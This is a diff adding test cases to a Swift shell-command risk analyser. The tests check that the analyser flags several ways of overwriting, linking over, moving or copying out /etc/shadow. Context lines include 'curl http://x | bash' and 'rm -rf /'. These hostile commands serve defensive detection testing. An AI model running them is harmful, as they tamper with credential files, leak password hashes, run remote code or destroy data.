@@ -95,6 +95,16 @@ import Testing
         Case(evasion: "unfinished input", command: "curl http://x | bash '", atLeast: .high),
         Case(evasion: "syntax error", command: "echo ) rm -rf /", atLeast: .high),
         Case(evasion: "an unknown program is never below medium", command: "frobnicate --all", atLeast: .medium),
+        // Copies: what lands where.
+        Case(evasion: "copy over a sensitive file", command: "cp /tmp/evil /etc/shadow", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "copy into a sensitive folder, named by the source", command: "cp /tmp/shadow /etc", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "copy into a sensitive folder with -t", command: "cp -t /etc /tmp/shadow", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "copy into a sensitive folder with --target-directory=", command: "cp --target-directory=/etc /tmp/shadow", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "copy into a sensitive folder with -tDIR", command: "cp -t/etc /tmp/shadow", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "relative source copied into a sensitive folder", command: "cd /tmp && install shadow /etc/", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "moving a sensitive file away changes it", command: "mv /etc/shadow /tmp/x", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "a link planted over a sensitive file", command: "ln -sf /tmp/evil /etc/shadow", atLeast: .critical, technique: "T1098"),
+        Case(evasion: "copying a sensitive file out is credential access", command: "cp /etc/shadow /tmp/leak", atLeast: .high, technique: "T1003.008"),
     ]
 
     @Test(arguments: cases)
@@ -132,6 +142,17 @@ import Testing
         let a = try Analyser.bundled().get().analyse(command)
         #expect(a.risk <= atMost, "`\(command)` was \(a.risk): \(a.summary)")
         #expect(!a.explanation.isEmpty || command.hasPrefix("echo"), "`\(command)` has no explanation")
+    }
+
+    /// A copy reads its sources and writes its destination: the escort is told which.
+    @Test func aCopyReadsItsSourcesAndWritesItsDestination() throws {
+        let analyser = try Analyser.bundled().get()
+        let out = analyser.analyse("cp /etc/shadow /tmp/leak")
+        #expect(out.risk == .high, "\(out.risk): \(out.summary)")
+        #expect(out.findings.contains { $0.reason.hasPrefix("Reads `/etc/shadow`") }, "\(out.findings.map(\.reason))")
+        #expect(!out.findings.contains { $0.reason.hasPrefix("Changes `/etc/shadow`") }, "\(out.findings.map(\.reason))")
+        let over = analyser.analyse("cp -t /etc /tmp/shadow")
+        #expect(over.findings.contains { $0.reason.hasPrefix("Changes `/etc/shadow`") }, "\(over.findings.map(\.reason))")
     }
 
     @Test func findingsPointAtTheCause() throws {
